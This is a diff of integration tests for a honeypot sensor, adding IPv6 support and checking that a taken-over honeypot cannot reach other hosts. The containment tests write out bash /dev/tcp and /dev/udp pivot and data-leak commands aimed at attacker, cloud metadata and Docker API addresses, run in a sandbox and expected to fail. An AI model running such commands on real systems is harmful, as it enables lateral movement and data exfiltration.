@@ -12,6 +12,7 @@ from collections.abc import Iterator
 from contextlib import ExitStack, contextmanager
 from dataclasses import dataclass
 from datetime import UTC, datetime
+from functools import partial
 from pathlib import Path
 from typing import Any
 
@@ -20,7 +21,7 @@ from sensor_support import engine, namespaces
 from sensor_support.builders import desired, event, eventually, service, uuid7
 from sensor_support.engine import DOCKER, NestedEngine
 from sensor_support.mini_server import MiniServer, mini_server
-from sensor_support.namespaces import ATTACKER, SENSOR, SERVER, Lan, sh
+from sensor_support.namespaces import ATTACKER, ATTACKER6, OTHER_ATTACKER6, SENSOR, SENSOR6, SERVER, Lan, ping, sh
 
 from sensor_manager.effects.network_namespace import in_network_namespace
 from sensor_wire.v1.poll import ServiceReport, ServiceState
@@ -28,14 +29,16 @@ from sensor_wire.v1.poll import ServiceReport, ServiceState
 pytestmark = [pytest.mark.docker, pytest.mark.netns]
 
 POT = r"""
-use strict; use IO::Socket::INET; use IO::Socket::UNIX; use Socket;
+use strict; use IO::Socket::IP; use IO::Socket::UNIX; use Socket;
 $SIG{TERM} = sub { exit 0 }; $| = 1;
 die "out of cheese\n" if $ENV{HONEYSENS_OPTIONS} =~ /"crash"/;
 my $event = $ENV{HONEYSENS_OPTIONS} =~ /"event":"([^"]+)"/ ? $1 : "";
-my $server = IO::Socket::INET->new(LocalPort => 2222, Listen => 50, ReuseAddr => 1) or die "listen: $!";
+my %both = (LocalHost => "::", V6Only => 0, LocalPort => 2222, Listen => 50, ReuseAddr => 1);
+my $server = IO::Socket::IP->new(%both) or die "listen: $!";
 while (my $client = $server->accept) {
   my $who = $client->peerhost; my $me = $client->sockhost;
-  print $client "hello $who from $ENV{HONEYSENS_SERVICE}\n";
+  (my $plain = $who) =~ s/^::ffff://;
+  print $client "hello $plain from $ENV{HONEYSENS_SERVICE}\n";
   my $manager = IO::Socket::UNIX->new(Peer => "/run/honeysens/events.sock");
   if ($manager && $event) {
     my ($id, $time) = split /,/, $event;
@@ -100,6 +103,7 @@ class Sensor:
             "pot": {"ports": {"2222/tcp": 22}},
             "sleeper": {"catch_all": True},
             "foreign": {"digest": self.digests["pot for arm"]},
+            "raw": {"digest": self.digests["pot"], "raw": True},
             "looping": {"digest": self.digests["pot"], "options": {"crash": True}},
         }
         digest = self.digests.get(name, "")
@@ -148,13 +152,13 @@ class Sensor:
             adapter.sendall(json.dumps({"event": body}).encode() + b"\n")
             return adapter.recv(4096).decode()
 
-    def capture(self, name: str) -> list[socket.socket]:
+    def capture(self, name: str, *, ipv6: bool = False) -> list[socket.socket]:
         """Ask for the capture sockets as the service's adapter would; none while they cannot be had."""
         with self._adapter(name) as adapter:
             if adapter is None:
                 return []
-            adapter.sendall(b'{"request":"capture"}\n')
-            _, descriptors, _, _ = socket.recv_fds(adapter, 4096, 3)
+            adapter.sendall(b'{"request":"capture","ipv6":true}\n' if ipv6 else b'{"request":"capture"}\n')
+            _, descriptors, _, _ = socket.recv_fds(adapter, 4096, 6)
         return [socket.socket(fileno=each) for each in descriptors]
 
     @contextmanager
@@ -181,9 +185,10 @@ class Sensor:
 
     def connect(self, command: str = "", port: int = 22, source: str = ATTACKER) -> str:
         """Connect as an attacker, send one line, return everything that comes."""
+        target = SENSOR6 if ":" in source else SENSOR
         script = (
             "import socket,sys\n"
-            f"c=socket.create_connection(({SENSOR!r},{port}),5,({source!r},0))\n"
+            f"c=socket.create_connection(({target!r},{port}),5,({source!r},0))\n"
             f"c.sendall({command!r}.encode()+b'\\n'); c.shutdown(1)\n"
             "data=b''\n"
             "while (part:=c.recv(4096)): data+=part\n"
@@ -382,44 +387,88 @@ def test_run_contract(sensor: Sensor) -> None:
     assert " 64 " in status
 
 
-PIVOTS = {
-    "server by TCP": f"exec 3<>/dev/tcp/{SERVER}/8443",
-    "attacker by TCP": f"exec 3<>/dev/tcp/{ATTACKER}/9999",
-    "sensor's own address": f"exec 3<>/dev/tcp/{SENSOR}/22",
-    "bridge": "exec 3<>/dev/tcp/10.10.10.1/22",
-    "other honeypot": "exec 3<>/dev/tcp/10.10.10.6/60999",
-    "name server": "getent hosts sensor.example",
-}
+def test_ipv6_attackers_reach_honeypots_and_are_told_by_their_own_address(sensor: Sensor) -> None:
+    identifier = str(uuid7())
+    sensor.want("pot", "sleeper", pot={"options": {"event": f"{identifier},{datetime.now(UTC).isoformat()}"}})
+    sensor.runs("pot", "sleeper")
+    assert f"hello {ATTACKER6} from pot" in sensor.connect(source=ATTACKER6)
+    stored = eventually(lambda: sensor.server.events.get(identifier), "the event is on the server", 5)
+    assert stored["destination"] == {"ip": SENSOR6, "port": 22}
+    assert stored["source"]["ip"] == ATTACKER6
+    assert SENSOR6 in {str(each) for each in sensor.server.reports[-1].addresses}
+    assert len(sensor.capture("sleeper")) == 3, "an older adapter asks for these"
+    *_, packets, _, listener = sensor.capture("sleeper", ipv6=True)
+    with listener, packets, in_network_namespace(namespaces.path(sensor.net.lan), _client6) as client:
+        packets.settimeout(5)
+        listener.settimeout(5)
+        client.connect((SENSOR6, 4711))
+        connection, peer = listener.accept()
+        with connection:
+            original = connection.getsockopt(socket.IPPROTO_IPV6, SO_ORIGINAL_DST, 28)
+        assert (peer[0], int.from_bytes(original[2:4])) == (ATTACKER6, 4711)
+        assert ping(sensor.net.lan, SENSOR6)
+        while packets.recv(2000)[6:41:34] != bytes([socket.IPPROTO_ICMPV6, 128]):
+            pass  # until the echo request
+
+
+BRIDGES = {"pot": ("10.10.10.1", "fd68:6f6e:6579::1"), "sleeper": ("10.10.10.5", "fd68:6f6e:6579:1::1")}
+OTHERS = {"pot": ("10.10.10.6", "fd68:6f6e:6579:1::2"), "sleeper": ("10.10.10.2", "fd68:6f6e:6579::2")}
+
+
+def _pivots(name: str) -> list[str]:
+    """All that a honeypot could want to reach: IPv4 and IPv6 alike."""
+    places = [(SERVER, 8443), (OTHER_ATTACKER6, 8443), (ATTACKER, 9999), (ATTACKER6, 9999), (SENSOR, 22), (SENSOR6, 22)]
+    places += [(address, 22) for address in BRIDGES[name]]
+    places += [(address, port) for address in OTHERS[name] for port in (60999, 2222)]
+    places += [("192.0.2.1", 443), ("2001:db8:1::1", 443), ("169.254.169.254", 80), ("fe80::1%eth0", 22)]
+    places += [(address, 2375) for address in BRIDGES[name]]
+    return [*(f"exec 3<>/dev/tcp/{address}/{port}" for address, port in places), "getent hosts sensor.example"]
 
 
 def _assert_closed(sensor: Sensor) -> None:
-    for name, attempt in PIVOTS.items():
-        answer = sensor.connect(f"timeout 1 bash -c '{attempt}' && echo OPEN || echo shut")
-        assert "shut" in answer, (name, answer)
+    """From a mapped service through its attacker's session, from the catch-all as one who has taken it over."""
+    leaks = [f"exec 3>/dev/udp/{address}/5000; echo leak >&3" for address in (ATTACKER, ATTACKER6)]
+    for name in ("pot", "sleeper"):
+        attempts = [f"(timeout 1 bash -c '{each}' && echo OPEN {each} || echo shut) &" for each in _pivots(name)]
+        script = " ".join([*attempts, *(f"(bash -c '{each}') &" for each in leaks), "wait"])
+        command = [DOCKER, "-H", sensor.docker, "exec", f"honeysens-{name}", "bash", "-c", f"( {script} ) 2>/dev/null"]
+        answer = sensor.connect(script) if name == "pot" else sh(*command)
+        assert answer.count("shut") == len(attempts), (name, answer)
         assert "OPEN" not in answer, (name, answer)
-    out = f"exec 3>/dev/udp/{ATTACKER}/5000; echo leak >&3"
-    assert "hello" in sensor.connect(f"bash -c '{out}'")
 
 
 def test_taken_over_honeypot_reaches_nothing_also_after_restarts(sensor: Sensor) -> None:
     sensor.want("pot", "sleeper")
     sensor.runs("pot", "sleeper")
-    with in_network_namespace(namespaces.path(sensor.net.lan), lambda: socket.create_server((ATTACKER, 9999))):
-        leak = in_network_namespace(namespaces.path(sensor.net.lan), lambda: _datagram_socket(5000))
-        with leak:
-            _assert_closed(sensor)
-            sh("ip", "netns", "exec", sensor.net.sensor, "nft", "delete", "table", "inet", "honeysens")
-            eventually(lambda: "honeysens" in sensor.rules(), "the rules are back")
-            repairs = eventually(lambda: sensor.server.reports[-1].netfilter, "the repair is reported")
-            assert repairs.repairs == 1
-            sensor.engine.restart()
-            sensor.kill(signal.SIGTERM)
-            sensor.start()
-            sensor.server.reports.clear()
-            sensor.runs("pot", "sleeper")
-            _assert_closed(sensor)
+    outside = namespaces.path(sensor.net.lan)
+    with ExitStack() as stack:
+        leaks = []
+        for address in (ATTACKER, ATTACKER6):
+            stack.enter_context(in_network_namespace(outside, partial(_listener, address, 9999)))
+            leaks.append(stack.enter_context(in_network_namespace(outside, partial(_datagram_socket, address, 5000))))
+        _assert_closed(sensor)
+        sh("ip", "netns", "exec", sensor.net.sensor, "nft", "delete", "table", "inet", "honeysens")
+        eventually(lambda: "honeysens" in sensor.rules(), "the rules are back")
+        repairs = eventually(lambda: sensor.server.reports[-1].netfilter, "the repair is reported")
+        assert repairs.repairs == 1
+        sensor.engine.restart()
+        sensor.kill(signal.SIGTERM)
+        sensor.start()
+        sensor.server.reports.clear()
+        sensor.runs("pot", "sleeper")
+        _assert_closed(sensor)
+        for leak in leaks:
             with pytest.raises(BlockingIOError):
                 leak.recv(100)
+
+
+def test_raw_service_is_never_started(sensor: Sensor) -> None:
+    """The contract of this sensor gives nobody raw access: there is nothing that could be taken over."""
+    sensor.want("pot", "raw")
+    sensor.runs_at_least("pot")
+    eventually(lambda: sensor.has_failed("raw"), "the refusal is reported")
+    assert "raw network access" in (sensor.server.reports[-1].model_dump_json())
+    assert set(sensor.containers()) == {"honeysens-pot"}
 
 
 def test_no_honeypot_runs_without_netfilter(sensor: Sensor) -> None:
@@ -450,8 +499,23 @@ def _connect_command(port: int) -> list[str]:
     return [sys.executable, "-c", script]
 
 
-def _datagram_socket(port: int) -> socket.socket:
-    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    made.bind((ATTACKER, port))
+def _client6() -> socket.socket:
+    made = socket.socket(socket.AF_INET6)
+    made.settimeout(5)
+    made.bind((ATTACKER6, 0))
+    return made
+
+
+def _family(address: str) -> socket.AddressFamily:
+    return socket.AF_INET6 if ":" in address else socket.AF_INET
+
+
+def _listener(address: str, port: int) -> socket.socket:
+    return socket.create_server((address, port), family=_family(address))
+
+
+def _datagram_socket(address: str, port: int) -> socket.socket:
+    made = socket.socket(_family(address), socket.SOCK_DGRAM)
+    made.bind((address, port))
     made.settimeout(0)
     return made
